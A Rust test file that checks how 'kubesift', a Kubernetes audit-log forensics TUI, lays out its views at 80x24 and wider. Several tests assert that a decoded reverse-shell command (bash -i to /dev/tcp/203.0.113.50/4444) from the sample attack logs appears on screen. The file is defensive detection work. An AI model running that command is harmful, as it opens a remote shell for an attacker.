//! The workbench's views on the sample logs at 80×24 (and one wide screen): insta snapshots
//! of each view, and the promises of a small terminal checked on the drawn text — rule ids
//! whole, times readable, exec commands in the events and case tables, a time axis on the
//! timeline, a help that scrolls, narrows and names the query fields.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::sample_index;
use common::workbench::{act, screen, settle, typed};
use kubesift::tui::worker::Engine;
use kubesift::tui::{Action, App};

/// An app on the sample index at `size`, with its engine, as the workbench starts.
fn start(size: (u16, u16)) -> (App, Engine) {
    common::workbench::start(sample_index(), size)
}

/// The events of the exec requests.
fn exec_events(app: &mut App, engine: &mut Engine) {
    act(app, engine, &[Action::ViewEvents, Action::Filter]);
    typed(app, engine, "res:pods/exec");
    act(app, engine, &[Action::Submit]);
}

/// The cursor on the reverse shell: the last exec event but one.
fn on_the_reverse_shell(app: &mut App, engine: &mut Engine) {
    exec_events(app, engine);
    act(app, engine, &[Action::Bottom, Action::Up]);
}

/// An app at `size` whose case file is in a directory that lives as long as the guard.
fn with_a_case_file(size: (u16, u16)) -> (App, Engine, tempfile::TempDir) {
    let (mut app, engine) = start(size);
    let dir = tempfile::tempdir().unwrap();
    app.case_file = Some(dir.path().join("case.json").display().to_string());
    (app, engine, dir)
}

#[test]
fn regression_detections_at_80x24_keep_rule_ids_whole_and_times_readable() {
    let (app, _) = start((80, 24));
    let s = screen(&app);
    let rows: Vec<&str> = s.lines().filter(|l| l.contains(" KS-")).collect();
    assert!(rows.len() >= 9, "{s}");
    for row in &rows {
        let rule = row
            .split_whitespace()
            .find(|w| w.starts_with("KS-"))
            .unwrap();
        assert!(
            app.findings.iter().any(|f| f.rule_id == rule),
            "rule id cut: {rule}\n{s}"
        );
        assert!(
            row.split_whitespace()
                .any(|w| w.len() == 8 && w.as_bytes()[2] == b':'),
            "no HH:MM:SS in {row}"
        );
        assert!(row.contains("critical"), "{row}");
    }
    insta::assert_snapshot!("detections_80x24", s);
}

#[test]
fn regression_events_table_at_80x24_shows_times_and_decoded_exec_commands() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    let s = screen(&app);
    assert!(s.contains("08:00:01 "), "the time is readable:\n{s}");
    assert!(
        s.contains("sa:shop/worker"),
        "accounts take their short form:\n{s}"
    );
    exec_events(&mut app, &mut engine);
    let s = screen(&app);
    assert!(s.contains("$ bash -c 'bash…"), "the decoded command:\n{s}");
    assert!(s.contains("$ /bin/bash"), "{s}");
    insta::assert_snapshot!("events_80x24", s);
}

#[test]
fn copy_takes_the_value_under_the_column_cursor() {
    let (mut app, mut engine) = start((80, 24));
    exec_events(&mut app, &mut engine);
    let first = act(&mut app, &mut engine, &[Action::Copy]).unwrap();
    assert_eq!(
        Some(first.as_str()),
        app.events.rows.first().map(|r| &*r.audit_id)
    );
    let account = act(
        &mut app,
        &mut engine,
        &[Action::Right, Action::Right, Action::Copy],
    );
    assert_eq!(account.as_deref(), Some("alice@example.com"));
    let s = screen(&app);
    assert!(s.contains("c copies ACCOUNT"), "{s}");
    let mut last = None;
    for _ in 0..10 {
        last = act(&mut app, &mut engine, &[Action::Right, Action::Copy]);
    }
    assert_eq!(
        last.as_deref(),
        Some("$ /bin/bash"),
        "the last column shown at 80"
    );
}

#[test]
fn case_table_at_80x24_shows_the_command_and_the_source_ip() {
    let (mut app, mut engine) = start((80, 24));
    let dir = tempfile::tempdir().unwrap();
    app.case_file = Some(dir.path().join("case.json").display().to_string());
    exec_events(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::Bottom]);
    act(&mut app, &mut engine, &[Action::Up, Action::ToggleMark]);
    act(&mut app, &mut engine, &[Action::ViewCase]);
    let mut case = app.case.clone();
    for b in case.events.values_mut() {
        b.added = "[when bookmarked]".into();
    }
    app.set_case(Ok(case));
    let s = screen(&app);
    assert!(s.contains("198.51.100.77 `bash -c 'bash -i"), "{s}");
    let summary = &app.case.events.values().next().unwrap().summary;
    assert!(
        summary.contains("from ") && summary.contains("`bash -c 'bash -i"),
        "{summary}"
    );
    insta::assert_snapshot!("case_80x24", s);
}

#[test]
fn timeline_at_80x24_has_a_time_axis_a_y_scale_and_jumps_to_findings() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewTimeline]);
    let s = screen(&app);
    assert!(s.contains("╵09:00") && s.contains("╵12:00"), "{s}");
    assert!(s.lines().any(|l| l.contains(" 0 ┤")), "{s}");
    let before = app.timeline.cursor;
    act(&mut app, &mut engine, &[Action::NextFinding]);
    assert!(app.timeline.cursor > before, "n jumps to a marker");
    act(&mut app, &mut engine, &[Action::ToggleLogScale]);
    insta::assert_snapshot!("timeline_80x24", screen(&app));
    // A filter: drawn over the whole traffic, markers only for its findings.
    exec_events(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::ViewTimeline]);
    assert!(app.timeline.traffic.is_some());
    assert!(screen(&app).contains("over all traffic"));
}

#[test]
fn help_at_80x24_scrolls_narrows_and_names_the_query_fields() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::Help]);
    let first = screen(&app);
    insta::assert_snapshot!("help_80x24", first);
    act(&mut app, &mut engine, &[Action::Bottom]);
    let last = screen(&app);
    assert_ne!(first, last, "the help scrolls");
    assert!(last.contains("[A TO B]"), "{last}");
    act(&mut app, &mut engine, &[Action::Top, Action::Search]);
    typed(&mut app, &mut engine, "source");
    let s = screen(&app);
    assert!(s.contains("find in help> source"), "{s}");
    assert!(s.contains("peer peer_ip"), "{s}");
    act(&mut app, &mut engine, &[Action::Submit]);
    assert_eq!(app.help_view.query, "source");
    assert!(app.help, "the help stays open");
    act(&mut app, &mut engine, &[Action::Cancel]);
    assert!(!app.help);
}

#[test]
fn detections_find_sort_and_kill_chain_on_a_wide_screen() {
    let (mut app, mut engine) = start((200, 50));
    act(
        &mut app,
        &mut engine,
        &[Action::CycleOrder, Action::CycleOrder],
    );
    let s = screen(&app);
    assert!(s.contains("kill chain") && s.contains("TACTIC"), "{s}");
    insta::assert_snapshot!("detections_kill_chain_200x50", s);
    act(&mut app, &mut engine, &[Action::FindInList]);
    typed(&mut app, &mut engine, "exec-reverse");
    act(&mut app, &mut engine, &[Action::Submit]);
    assert_eq!(app.detections.shown(&app.findings).len(), 1);
    // Regression: Esc after the find left the list filtered (the README says all again).
    act(&mut app, &mut engine, &[Action::Cancel]);
    assert_eq!(
        app.detections.shown(&app.findings).len(),
        app.findings.len()
    );
    // Regression: `/` again started from the last text, and typing appended to it.
    act(&mut app, &mut engine, &[Action::FindInList]);
    typed(&mut app, &mut engine, "exec-rev");
    act(&mut app, &mut engine, &[Action::Submit, Action::FindInList]);
    typed(&mut app, &mut engine, "exec-reverse");
    act(&mut app, &mut engine, &[Action::Submit]);
    assert_eq!(app.detections.query, "exec-reverse");
    assert_eq!(app.detections.shown(&app.findings).len(), 1);
    let copied = act(&mut app, &mut engine, &[Action::Open]);
    assert!(copied.is_none());
    assert_eq!(
        app.events.total,
        Some(1),
        "Enter opens the finding's events"
    );
}

#[test]
fn sessions_of_an_exec_event_at_80x24_show_its_decoded_command_and_keep_their_place() {
    use kubesift::tui::components::View;
    let (mut app, mut engine) = start((80, 24));
    on_the_reverse_shell(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::Sessions]);
    assert_eq!(app.view, View::Sessions);
    let s = screen(&app);
    assert!(s.contains("sessions of sa:shop/web"), "{s}");
    assert!(
        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
        "the cursor on the event's command, decoded, in full:\n{s}"
    );
    assert!(
        s.contains("from 198.51.100.77"),
        "the session's address:\n{s}"
    );
    // The sessions view named no audit ID: the request the line opens is named under it.
    let id = app
        .events
        .selected_row()
        .map(|r| r.audit_id.to_string())
        .unwrap_or_default();
    assert!(
        !id.is_empty() && s.contains(&format!("audit ID {id}")),
        "{s}"
    );
    insta::assert_snapshot!("sessions_80x24", s);

    // Enter opens the command's event, with its credential's lineage; q comes back to the
    // same place.
    let place = app.session_view.cursor;
    act(&mut app, &mut engine, &[Action::Open]);
    assert_eq!(app.view, View::Detail);
    let event = app.detail.event.as_ref().unwrap();
    assert_eq!(event.audit_id, "a9c8559f-5b52-443f-9423-d40679cc3613");
    let lines = format!("{:?}", app.detail.lines());
    assert!(lines.contains("bound to pod"), "{lines}");
    assert!(
        lines.contains("⚠ used from") && lines.contains("198.51.100.77"),
        "use away from the pod is flagged: {lines}"
    );
    act(&mut app, &mut engine, &[Action::Back]);
    assert_eq!(app.view, View::Sessions);
    assert_eq!(app.session_view.cursor, place, "the view kept its place");
}

#[test]
fn coverage_view_at_80x24_and_the_header_marks_blind_spots() {
    use kubesift::tui::components::View;
    let (mut app, mut engine) = start((80, 24));
    let req = app.coverage_request();
    let resp = engine.handle(req);
    let eff = app.update(Action::Response(Box::new(resp)));
    settle(&mut app, &mut engine, eff);
    let n = app.coverage_view.blind_spots();
    assert!(n > 0, "the sample has blind spots");
    let s = screen(&app);
    let header = s.lines().next().unwrap();
    assert!(
        header.contains(&format!("⚠ blind spots: {n}")),
        "the marker fits 80 columns: {header}"
    );
    let footer = s.lines().last().unwrap();
    // The key to the view, not a second count beside the header's (it read "6 blind
    // spots" under "blind spots: 7").
    assert!(footer.contains("6 coverage"), "{footer}");
    assert!(!footer.contains("blind spots"), "{footer}");
    act(
        &mut app,
        &mut engine,
        &[Action::ViewEvents, Action::Command],
    );
    typed(&mut app, &mut engine, "coverage");
    act(&mut app, &mut engine, &[Action::Submit]);
    assert_eq!(app.view, View::Coverage, ":coverage opens the view");
    let s = screen(&app);
    assert!(s.contains(&format!("coverage — blind spots: {n}")), "{s}");
    assert!(s.contains("RequestReceived"), "{s}");
    insta::assert_snapshot!("coverage_80x24", s);
}

#[test]
fn regression_the_header_cut_the_event_count_into_another_number() {
    // At 80 columns the header ended `… 2973` for 29738 events: a number cut is a wrong
    // number. Whatever the width, the count is whole or absent, and the tabs shorten first.
    for width in [50, 60, 80, 100, 120, 160, 200] {
        let (app, _) = start((width, 24));
        let s = screen(&app);
        let header = s.lines().next().unwrap();
        assert!(
            !header.contains("2973") || header.contains("29738 "),
            "a cut number at {width} columns: {header}"
        );
        if width >= 80 {
            assert!(header.contains("29738 "), "the count at {width}: {header}");
        }
    }
}

#[test]
fn regression_a_filter_that_fits_the_screen_hid_its_first_row() {
    // The events view kept the selected event on its screen line across a filter: with the
    // cursor a few rows down, `res:pods/exec` (7 events) was drawn from its second row, the
    // first hidden above an empty table. Rows that fit the screen are all shown.
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    // Deep in the list, the cursor on the first screen line.
    let mut moves = vec![Action::Down; 12_000];
    moves.extend(vec![Action::Up; 40]);
    act(&mut app, &mut engine, &moves);
    act(&mut app, &mut engine, &[Action::Filter]);
    typed(&mut app, &mut engine, "res:pods/exec");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(s.contains("events — 7 matching"), "{s}");
    assert!(
        s.contains("09:32:05"),
        "the first exec event is shown:\n{s}"
    );
    let rows = s.lines().filter(|l| l.contains("exec")).count();
    assert!(rows >= 7, "{rows} rows of 7 drawn:\n{s}");
}

#[test]
fn regression_pivots_at_80x24_cut_every_value_to_five_characters() {
    // Five lists side by side at 80 columns left `198.5…` and `syste…`: values no one could
    // pivot on. The lists shown are as many as stay readable, ←/→ brings the others.
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewPivots]);
    let s = screen(&app);
    assert!(s.contains("10.0.0.11 "), "an address whole:\n{s}");
    assert!(s.contains("sys:anonymous"), "a short account whole:\n{s}");
    assert!(s.contains("1/5 ←→"), "the hidden lists are said:\n{s}");
    act(
        &mut app,
        &mut engine,
        &[Action::Right, Action::Right, Action::Right, Action::Right],
    );
    let s = screen(&app);
    assert!(
        s.contains("verbs") && s.contains(" update"),
        "the last list:\n{s}"
    );
}

#[test]
fn regression_the_detail_view_at_80_columns_cut_long_values_with_no_way_to_read_them() {
    use kubesift::tui::components::View;
    use kubesift::tui::components::detail::DetailLine;
    let (mut app, mut engine) = start((80, 24));
    on_the_reverse_shell(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::Open]);
    assert_eq!(app.view, View::Detail);
    let uri = app
        .detail
        .lines()
        .iter()
        .position(|l| matches!(l, DetailLine::Field { label, .. } if label == "uri"))
        .unwrap();
    let value = match &app.detail.lines()[uri] {
        DetailLine::Field { value, .. } => value.clone(),
        _ => unreachable!(),
    };
    assert!(value.chars().count() > 80, "a long value: {value}");
    let before = screen(&app);
    assert!(!before.contains("full value"), "{before}");
    let moves = vec![Action::Down; uri];
    act(&mut app, &mut engine, &moves);
    assert_eq!(app.detail.cursor, uri);
    let s = screen(&app);
    assert!(s.contains("── full value"), "{s}");
    // Every piece of the value is on screen, in order, once the lines are joined.
    let at = s.find("── full value").unwrap();
    let joined: String = s[at..]
        .lines()
        .skip(1)
        .map(|l| l.trim_start_matches('│').trim_end_matches('│'))
        .collect::<Vec<_>>()
        .concat();
    let tail: String = value
        .chars()
        .rev()
        .take(30)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    assert!(joined.contains(&tail), "the end of {value} in:\n{s}");
    // The cursor's line stays in sight above it.
    let cursor_line = s.lines().position(|l| l.contains(" uri ")).unwrap();
    assert!(s.lines().position(|l| l.contains("── full value")).unwrap() > cursor_line);
}

#[test]
fn regression_denied_requests_read_as_successes_at_80_columns() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    typed(&mut app, &mut engine, "code:403");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(!s.contains(" CODE "), "no room for the column at 80:\n{s}");
    let rows: Vec<&str> = s
        .lines()
        .filter(|l| l.contains(':') && l.starts_with('│'))
        .collect();
    assert!(rows.len() > 3, "{s}");
    for r in rows.iter().skip(1) {
        assert!(r.contains(" 403 "), "the code in the summary: {r}\n{s}");
    }
    let (mut wide, mut engine) = start((160, 30));
    act(
        &mut wide,
        &mut engine,
        &[Action::ViewEvents, Action::Filter],
    );
    typed(&mut wide, &mut engine, "code:403");
    act(&mut wide, &mut engine, &[Action::Submit]);
    let s = screen(&wide);
    assert!(s.contains(" CODE "), "{s}");
}

#[test]
fn regression_the_detail_view_showed_the_uri_decoded_as_if_logged() {
    use kubesift::tui::components::detail::DetailLine;
    let (mut app, mut engine) = start((80, 24));
    on_the_reverse_shell(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::Open]);
    let event = app.detail.event.as_ref().unwrap().clone();
    let value = |name: &str| {
        app.detail.lines().iter().find_map(|l| match l {
            DetailLine::Field { label, value, .. } if label == name => Some(value.clone()),
            _ => None,
        })
    };
    assert_eq!(value("uri").as_deref(), Some(event.request_uri.as_str()));
    let decoded = value("uri decoded").unwrap();
    assert_ne!(decoded, event.request_uri);
    assert!(
        decoded.contains("command=bash -i >& /dev/tcp/"),
        "{decoded}"
    );
}

#[test]
fn regression_the_account_column_mixed_short_and_whole_forms_on_a_wide_screen() {
    for width in [120, 160, 200, 240] {
        let (mut app, mut engine) = start((width, 40));
        act(&mut app, &mut engine, &[Action::ViewEvents]);
        assert_one_account_form(&screen(&app), " 08:0", width);
    }
}

/// The rows (lines containing `marker`) show accounts in one form: short (`sa:`, `node:`) or
/// whole (`system:serviceaccount:`, `system:node:`), not both.
fn assert_one_account_form(s: &str, marker: &str, width: u16) {
    let rows: Vec<&str> = s.lines().filter(|l| l.contains(marker)).collect();
    assert!(rows.len() > 10, "{s}");
    let short = rows
        .iter()
        .any(|r| r.contains(" sa:") || r.contains(" node:"));
    let whole = rows
        .iter()
        .any(|r| r.contains(" system:serviceaccount:") || r.contains(" system:node:"));
    assert!(!(short && whole), "one form at {width} columns:\n{s}");
}

#[test]
fn regression_the_detections_account_column_mixed_short_and_whole_forms() {
    for width in [80, 120, 160, 200, 240] {
        let (app, _) = start((width, 50));
        assert_one_account_form(&screen(&app), " KS-", width);
    }
}

#[test]
fn regression_a_request_naming_no_user_had_an_empty_account_cell() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    typed(&mut app, &mut engine, "NOT user:*");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(s.contains("(no user)"), "{s}");
}

#[test]
fn regression_the_note_under_an_empty_table_was_cut_at_80_columns() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    typed(&mut app, &mut engine, "status_code:403");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(s.contains("no event matches the filters"), "{s}");
    assert!(
        s.contains("is not a") && s.contains("workbench)"),
        "the whole note:\n{s}"
    );
}

/// At 80 columns a zone other than UTC left the header (times read as UTC), and a filter
/// line longer than the screen was cut with no mark (chips and the pivot count hidden).
#[test]
fn regression_at_80x24_the_zone_stays_in_the_header_and_long_filters_are_marked() {
    let (mut app, mut engine) = start((80, 24));
    act(
        &mut app,
        &mut engine,
        &[Action::ViewEvents, Action::Command],
    );
    typed(&mut app, &mut engine, "tz Europe/Paris");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    let header = s.lines().next().unwrap_or_default();
    assert!(header.contains("Europe/Paris"), "{s}");
    for view in [
        Action::ViewIncidents,
        Action::ViewDetections,
        Action::ViewPivots,
        Action::ViewTimeline,
        Action::ViewCase,
        Action::ViewCoverage,
        Action::ViewEvents,
    ] {
        act(&mut app, &mut engine, std::slice::from_ref(&view));
        let s = screen(&app);
        let header = s.lines().next().unwrap_or_default();
        assert!(header.contains("Europe/Paris"), "{view:?}: {s}");
    }
    // Each `:` command adds a chip.
    for command in [
        "ns shop",
        "user system:serviceaccount:shop:web",
        "sa shop:web",
        "ua web-frontend/v2.3.1 (linux/amd64)",
        "verb get",
    ] {
        act(&mut app, &mut engine, &[Action::Command]);
        typed(&mut app, &mut engine, command);
        act(&mut app, &mut engine, &[Action::Submit]);
    }
    let s = screen(&app);
    let line = s
        .lines()
        .find(|l| l.starts_with(" filters:"))
        .unwrap_or_default();
    assert!(line.contains('…') || line.contains("more"), "{s}");
    assert!(line.contains("pivot "), "the pivot count stays: {s}");
    assert!(line.trim_end().chars().count() <= 80, "{s}");
}

/// The selected value's count in the Pivots view was grey on the grey of the cursor's row;
/// no view may draw a character in the colour of its background. The status line ended in a
/// cut hint (a stray `e` at 80 columns).
#[test]
fn regression_no_text_drawn_in_its_background_colour_and_status_hints_are_whole() {
    use kubesift::tui::keymap::Keymap;
    use ratatui::style::Color;
    let (mut app, mut engine) = start((80, 24));
    let views = [
        Action::ViewIncidents,
        Action::ViewDetections,
        Action::ViewEvents,
        Action::ViewPivots,
        Action::ViewTimeline,
        Action::ViewCase,
        Action::ViewCoverage,
    ];
    let labels = [
        "help", "back", "quit", "open", "sessions", "filter", "search", "command", "sort", "order",
        "find", "copy", "forward", "coverage",
    ];
    for view in views {
        act(&mut app, &mut engine, std::slice::from_ref(&view));
        let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), 80, 24);
        for y in 0..buf.area.height {
            for x in 0..buf.area.width {
                let cell = &buf[(x, y)];
                let blank = cell.symbol().trim().is_empty();
                let (fg, bg) = (cell.fg, cell.bg);
                assert!(
                    blank || fg == Color::Reset || fg != bg,
                    "{view:?}: {:?} drawn {fg:?} on {bg:?} at ({x}, {y})\n{}",
                    cell.symbol(),
                    screen(&app)
                );
            }
        }
        let s = screen(&app);
        let status = s.lines().last().unwrap_or_default().trim_end();
        assert!(
            labels.iter().any(|l| status.ends_with(l)) || !status.starts_with("? help"),
            "{view:?}: the status line ends in a cut hint: {status}"
        );
    }
}

#[test]
fn regression_a_long_export_path_hid_the_field_and_its_error_at_80x24() {
    // The dialog's height counted lines, not wrapped rows: a long path pushed its own end,
    // the cursor and the error below the box.
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Export]);
    let default = app.export.as_ref().unwrap().path.text().chars().count();
    act(&mut app, &mut engine, &vec![Action::Backspace; default]);
    let path = format!("/no-such-dir-{}/timeline.csv", "x".repeat(600));
    typed(&mut app, &mut engine, &path);
    act(&mut app, &mut engine, &[Action::Submit]);
    assert!(app.export.as_ref().unwrap().error.is_some());
    let s = screen(&app);
    assert!(s.contains('✗'), "the error is in view:\n{s}");
    assert!(
        s.contains('█'),
        "the cursor at the path's end is in view:\n{s}"
    );
    assert!(s.contains("format (↑/↓)"), "the box starts on screen:\n{s}");
}

#[test]
fn regression_the_note_editor_hid_the_cursor_below_its_box_at_80x24() {
    let (mut app, mut engine, _case) = with_a_case_file((80, 24));
    on_the_reverse_shell(&mut app, &mut engine);
    act(&mut app, &mut engine, &[Action::Note]);
    let note = (1..=30)
        .map(|i| format!("line {i} of the note"))
        .collect::<Vec<_>>()
        .join("\n")
        + "\n";
    typed(&mut app, &mut engine, &note);
    typed(&mut app, &mut engine, "the last words");
    let s = screen(&app);
    assert!(s.contains("the last words"), "{s}");
}

#[test]
fn regression_the_case_pane_cut_a_long_note_without_a_sign_and_showed_no_tags() {
    let (mut app, mut engine, _case) = with_a_case_file((80, 24));
    on_the_reverse_shell(&mut app, &mut engine);
    act(
        &mut app,
        &mut engine,
        &[Action::ToggleMark, Action::ViewCase],
    );
    let mut case = app.case.clone();
    for b in case.events.values_mut() {
        b.tags = vec!["exfil".into(), "needs-review".into()];
        b.note = (1..=40)
            .map(|i| format!("finding {i}"))
            .collect::<Vec<_>>()
            .join("\n");
    }
    app.set_case(Ok(case));
    let s = screen(&app);
    assert!(s.contains("tags exfil, needs-review"), "{s}");
    assert!(s.contains("finding 1"), "the note's start shows:\n{s}");
    assert!(s.contains("… (a shows the whole note)"), "{s}");
    assert!(!s.contains("finding 40"), "{s}");
}

#[test]
fn regression_a_long_query_hid_its_end_and_the_cursor_at_80x24() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    let query = format!(
        "ns:shop AND {} AND verb:get-the-end",
        "user:alice ".repeat(12)
    );
    typed(&mut app, &mut engine, &query);
    let s = screen(&app);
    let prompt = s.lines().last().unwrap();
    assert!(prompt.contains("verb:get-the-end█"), "{prompt}");
    assert!(prompt.contains('…'), "the cut start is marked: {prompt}");
}

#[test]
fn regression_a_long_status_was_cut_at_the_edge_without_a_sign() {
    let (mut app, _engine) = start((80, 24));
    app.status = format!("tags of the event: {}", "needs-review, ".repeat(10));
    let s = screen(&app);
    // Not cut at all now: it grows upwards over the view, wrapped.
    let lines: Vec<&str> = s.lines().collect();
    let tail = lines[lines.len() - 4..].join(" ");
    assert_eq!(tail.matches("needs-review").count(), 10, "{s}");
}

#[test]
fn regression_a_long_search_was_cut_at_the_edge_of_the_filter_line_without_a_sign() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Search]);
    typed(
        &mut app,
        &mut engine,
        "verb:create-and-a-very-long-search-text-that-goes-on-past-the-line",
    );
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    let line = s
        .lines()
        .find(|l| l.contains("search: /"))
        .expect("the filter line names the search");
    assert!(line.trim_end().ends_with('…'), "{line}\n{s}");
    assert!(line.chars().count() <= 80, "{line}");
}

#[test]
fn regression_the_home_view_hinted_q_as_back_where_it_quits() {
    let (mut app, mut engine) = start((200, 50));
    let s = screen(&app);
    let hints = s.lines().last().unwrap_or_default();
    assert!(hints.contains("Q quit"), "{hints}");
    assert!(!hints.contains("q back"), "{hints}");
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    let s = screen(&app);
    let hints = s.lines().last().unwrap_or_default();
    assert!(hints.contains("q back"), "{hints}");
}

/// At 80x24 the finding's pane showed its summary alone: the why, history and advice lines
/// below it were never seen, and nothing scrolled the pane.
#[test]
fn regression_at_80x24_a_findings_advice_is_in_sight() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewDetections]);
    for rule in ["sa-new-user-agent", "sa-new-activity", "exec-reverse"] {
        act(&mut app, &mut engine, &[Action::FindInList]);
        typed(&mut app, &mut engine, rule);
        act(&mut app, &mut engine, &[Action::Submit]);
        assert!(!app.detections.shown(&app.findings).is_empty(), "{rule}");
        // Tab gives the keys to the pane; G scrolls it to its end.
        act(&mut app, &mut engine, &[Action::NextPane, Action::Bottom]);
        let s = screen(&app);
        assert!(s.contains("advice:"), "{rule}: {s}");
        // Esc gives them back to the list, and Esc again shows every finding.
        act(&mut app, &mut engine, &[Action::Cancel, Action::Cancel]);
        assert!(!app.detections.about_focus);
    }
    let before = app.detections.selected;
    act(&mut app, &mut engine, &[Action::Down]);
    assert_eq!(
        app.detections.selected,
        before + 1,
        "j moves the list again"
    );
}

/// At 80 columns a query's error was cut at the edge (`…expected a term after AND, fo`), and
/// so was a long status (`:code abc`'s example list): their ends could not be read.
#[test]
fn regression_at_80x24_errors_are_read_whole() {
    let (mut app, mut engine) = start((80, 24));
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    typed(&mut app, &mut engine, "ns:shop AND OR verb:get");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    let flat: String = s.lines().map(str::trim).collect::<Vec<_>>().join(" ");
    assert!(flat.contains("found OR"), "{s}");
    act(&mut app, &mut engine, &[Action::Cancel, Action::Command]);
    typed(&mut app, &mut engine, "code abc");
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    let flat: String = s.lines().map(str::trim).collect::<Vec<_>>().join(" ");
    assert!(flat.contains("4xx"), "{s}");
}

/// The events table of data spanning days showed `HH:MM:SS` alone at 80 and 120 columns.
#[test]
fn regression_events_of_several_days_show_their_date() {
    let (mut app, mut engine) = start((80, 24));
    let (first, last) = app.facts.span.expect("the sample has a span");
    app.facts.span = Some((
        first,
        kubesift::model::Micros(last.0 + 2 * 24 * 3_600_000_000),
    ));
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    let s = screen(&app);
    let day = first.display_in(&app.tz)[5..10].to_owned();
    let row = s
        .lines()
        .find(|l| l.contains(&format!("{day} ")))
        .unwrap_or_else(|| panic!("no row shows its date {day}:\n{s}"));
    assert!(row.chars().count() <= 80, "{row}");
}

/// At 60 columns the header dropped the event count (the blind-spot mark took its room).
#[test]
fn regression_at_60_columns_the_header_keeps_the_counts() {
    let (mut app, mut engine) = start((60, 24));
    let req = app.coverage_request();
    let resp = engine.handle(req);
    let eff = app.update(Action::Response(Box::new(resp)));
    settle(&mut app, &mut engine, eff);
    assert!(app.coverage_view.blind_spots() > 0);
    let s = screen(&app);
    let header = s.lines().next().unwrap_or_default();
    assert!(
        header.contains(&format!("{} ev", app.facts.events)),
        "{header}"
    );
    assert!(
        header.contains('⚠'),
        "the blind spots stay marked: {header}"
    );
}
